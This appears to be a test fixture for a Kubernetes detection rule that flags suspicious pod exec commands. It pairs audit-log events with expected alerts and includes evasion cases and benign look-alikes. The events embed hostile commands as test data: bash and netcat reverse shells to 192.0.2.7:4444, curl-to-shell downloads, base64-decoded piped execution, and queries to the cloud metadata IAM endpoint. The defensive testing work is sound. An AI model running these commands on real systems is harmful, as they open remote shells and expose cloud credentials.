Suspicious Exec Command.

=== fires on EKS and kubeadm, once for all stages
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r108","stage":"RequestReceived","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F192.0.2.7%2F4444%200%3E%261&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r108","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F192.0.2.7%2F4444%200%3E%261&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r108","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F192.0.2.7%2F4444%200%3E%261&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result
{"_time":"1767323045","severity":"high","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"create","resource":"pods/exec","namespace":"dev","object":"web-1","why":"shell that calls home","command":"bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1","status":"101","request":"r108"}

=== fires on AKS
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"time":"2026-01-02T03:04:05.000000Z","category":"kube-audit","operationName":"Microsoft.ContainerService/managedClusters/diagnosticLogs/Read","resourceId":"/SUBSCRIPTIONS/S/RESOURCEGROUPS/G/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/PROD","properties":{"log":"{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"Metadata\",\"auditID\":\"r108\",\"stage\":\"ResponseComplete\",\"requestURI\":\"/api/v1/namespaces/dev/pods/web-1/exec?command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F192.0.2.7%2F4444%200%3E%261&container=app&stdout=true\",\"verb\":\"create\",\"user\":{\"username\":\"eve@example.com\",\"groups\":[\"system:authenticated\"]},\"sourceIPs\":[\"198.51.100.23\"],\"userAgent\":\"kubectl/v1.31.0\",\"objectRef\":{\"resource\":\"pods\",\"namespace\":\"dev\",\"name\":\"web-1\",\"apiVersion\":\"v1\",\"subresource\":\"exec\"},\"responseStatus\":{\"metadata\":{},\"code\":101},\"requestReceivedTimestamp\":\"2026-01-02T03:04:05.000000Z\",\"stageTimestamp\":\"2026-01-02T03:04:05.000000Z\"}\n","stream":"stdout","pod":"kube-apiserver-1"}}
--- result
{"_time":"1767323045","severity":"high","cluster":"PROD","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"create","resource":"pods/exec","namespace":"dev","object":"web-1","why":"shell that calls home","command":"bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1","status":"101","request":"r108"}

=== fires on GKE
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"insertId":"i-r107","logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity","timestamp":"2026-01-02T03:04:05.000000Z","resource":{"type":"k8s_cluster","labels":{"cluster_name":"prod","location":"europe-west1","project_id":"p"}},"operation":{"id":"r107","producer":"k8s.io","first":true,"last":true},"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"k8s.io","methodName":"io.k8s.core.v1.pods.exec.create","resourceName":"core/v1/namespaces/dev/pods/web-1/exec","authenticationInfo":{"principalEmail":"eve@example.com"},"requestMetadata":{"callerIp":"198.51.100.23","callerSuppliedUserAgent":"kubectl/v1.31.0"},"request":{"@type":"core.k8s.io/v1.PodExecOptions","command":["bash","-c","bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"],"container":"app"},"status":{"code":0}}}
--- result
{"_time":"1767323045","severity":"high","cluster":"prod","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"create","resource":"pods/exec","namespace":"dev","object":"web-1","why":"shell that calls home","command":"bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1","status":"200","request":"r107"}

=== fires without a body, at level Metadata
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r108","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F192.0.2.7%2F4444%200%3E%261&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result
{"_time":"1767323045","severity":"high","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"create","resource":"pods/exec","namespace":"dev","object":"web-1","why":"shell that calls home","command":"bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1","status":"101","request":"r108"}

=== fires for a download into a shell
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r109","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=sh&command=-c&command=curl%20-fsSL%20http%3A%2F%2Fexample.com%2Fx.sh%20%7C%20sh&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result
{"_time":"1767323045","severity":"high","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"create","resource":"pods/exec","namespace":"dev","object":"web-1","why":"download into a shell","command":"sh -c curl -fsSL http://example.com/x.sh | sh","status":"101","request":"r109"}

=== fires for the metadata of the cloud
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r110","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=wget&command=-qO-&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result
{"_time":"1767323045","severity":"high","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"create","resource":"pods/exec","namespace":"dev","object":"web-1","why":"metadata of the cloud","command":"wget -qO- http://169.254.169.254/latest/meta-data/iam/","status":"101","request":"r110"}

=== evasion: verb get by websocket, the session open
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r111","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=nc&command=192.0.2.7&command=4444&command=-e&command=%2Fbin%2Fsh&container=app&stdout=true","verb":"get","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result
{"_time":"1767323045","severity":"high","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"get","resource":"pods/exec","namespace":"dev","object":"web-1","why":"shell that calls home","command":"nc 192.0.2.7 4444 -e /bin/sh","status":"101","request":"r111"}

=== evasion: encoded
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r112","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=sh&command=-c&command=echo%20Y3VybCBleGFtcGxlLmNvbQ%3D%3D%20%7C%20base64%20-d%20%7C%20sh&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result
{"_time":"1767323045","severity":"high","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"create","resource":"pods/exec","namespace":"dev","object":"web-1","why":"decoded or assembled","command":"sh -c echo Y3VybCBleGFtcGxlLmNvbQ== | base64 -d | sh","status":"101","request":"r112"}

=== evasion: the address as a number
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r113","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=curl&command=http%3A%2F%2F2852039166%2Flatest%2F&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result
{"_time":"1767323045","severity":"high","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"create","resource":"pods/exec","namespace":"dev","object":"web-1","why":"metadata of the cloud","command":"curl http://2852039166/latest/","status":"101","request":"r113"}

=== evasion: blanks as plus signs
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r114","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=sh&command=-c&command=curl+example.com%2Fa+%7C+sh&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result
{"_time":"1767323045","severity":"high","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"create","resource":"pods/exec","namespace":"dev","object":"web-1","why":"download into a shell","command":"sh -c curl example.com/a | sh","status":"101","request":"r114"}

=== evasion: so long that nobody reads it
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r115","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=sh&command=-c&command=true%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3Btrue%3B&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result
{"_time":"1767323045","severity":"medium","user":"eve@example.com","src_ip":"198.51.100.23","user_agent":"kubectl/v1.31.0","verb":"create","resource":"pods/exec","namespace":"dev","object":"web-1","why":"long","command":"sh -c true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true;true","status":"101","request":"r115"}

=== look-alike: a shell
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r116","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=bash&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result

=== look-alike: a download to a file
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r117","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=curl&command=-o&command=%2Ftmp%2Fdata.json&command=https%3A%2F%2Fexample.com%2Fdata.json&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result

=== look-alike: a backup
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r118","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=pg_dump&command=-U&command=app&command=base64data&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result

=== look-alike: refused
--- rule kubernetes_suspicious_exec_command.yml
--- events
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r108","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/dev/pods/web-1/exec?command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F192.0.2.7%2F4444%200%3E%261&container=app&stdout=true","verb":"create","user":{"username":"eve@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"dev","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":403},"requestReceivedTimestamp":"2026-01-02T03:04:05.000000Z","stageTimestamp":"2026-01-02T03:04:05.000000Z"}
--- result
